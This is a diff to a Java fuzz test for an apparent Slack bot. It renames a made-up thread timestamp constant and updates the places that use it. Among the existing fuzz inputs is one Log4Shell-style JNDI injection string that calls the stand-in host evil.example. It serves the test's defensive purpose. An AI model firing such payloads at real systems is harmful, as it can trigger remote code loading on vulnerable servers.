@@ -60,7 +60,8 @@ class FuzzTest {
     private static final Duration WHOLE_RUN = Duration.ofSeconds(45);
     private static final Duration WAIT = Duration.ofSeconds(10);
     private static final String AFTER_CHANNEL = "C0AFTERFUZZ";
-    private static final String THREAD_TS = "1700000000.000101";
+    /** The thread the fuzzed re-answer clicks and revisions name: a ts the test makes up, not one the fake answered. */
+    private static final String PRETEND_THREAD_TS = "1700000000.000101";
     private static final ObjectMapper MAPPER = new ObjectMapper();
 
     /** One request to send: which shape it came from, what was done to it, and the signed body. */
@@ -304,7 +305,7 @@ class FuzzTest {
             TestApp.bank().questions().forEach(q -> answers.put(q.id(),
                     q.options().get(random.nextInt(q.options().size())).id()));
             return payloadCase(number, "re-answer click",
-                    SlackPayloads.reanswerClick("U0TEAMMATE", CHANNEL, THREAD_TS, value.toString()));
+                    SlackPayloads.reanswerClick("U0TEAMMATE", CHANNEL, PRETEND_THREAD_TS, value.toString()));
         }
 
         private Case payloadCase(int number, String shape, ObjectNode payload) {
@@ -542,7 +543,7 @@ class FuzzTest {
                 case 18 -> "${jndi:ldap://evil.example/a}";
                 case 19 -> pick("framework_decision", "reanswer", "project", "decision_actions");
                 case 20 -> "\uD800 lone \uDC00 surrogates";
-                default -> THREAD_TS;
+                default -> PRETEND_THREAD_TS;
             };
         }
 
@@ -556,8 +557,8 @@ class FuzzTest {
         }
 
         private ObjectNode revisionMetadata() {
-            ObjectNode metadata = MAPPER.createObjectNode().put("channel", CHANNEL).put("thread_ts", THREAD_TS)
-                    .put("parent_ts", THREAD_TS).put("asked_by", ASKER);
+            ObjectNode metadata = MAPPER.createObjectNode().put("channel", CHANNEL).put("thread_ts", PRETEND_THREAD_TS)
+                    .put("parent_ts", PRETEND_THREAD_TS).put("asked_by", ASKER);
             ObjectNode previous = metadata.putObject("previous");
             questionIds.forEach(q -> previous.put(q, "unsure"));
             return metadata;
